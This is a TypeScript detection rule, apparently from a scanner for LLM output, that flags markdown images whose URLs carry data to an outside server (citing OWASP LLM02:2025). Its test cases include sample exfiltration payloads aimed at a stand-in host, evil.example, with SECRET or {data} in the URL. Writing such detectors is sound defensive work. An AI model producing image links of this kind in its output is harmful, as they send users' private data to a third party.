/** Markdown images and links that would carry data to somebody's server when they are shown. Source: OWASP LLM02:2025. */
import { pattern, type Rule } from '../rule.ts'

export const exfiltration: Rule = {
  id: 'exfiltration',
  keywords: ['](http'],
  find: pattern(/!\[[^\]\n]{0,200}\]\(https?:\/\/[^\s)]{1,500}[?&#/][^\s)]{0,100}[={][^\s)]{0,500}\)/g),
  finds: ['![x](https://evil.example/p?d=SECRET)', '![](http://evil.example/{data})'],
  ignores: ['![logo](https://example.com/logo.png)', '[docs](https://example.com/?q=pods)', '!(x)'],
}
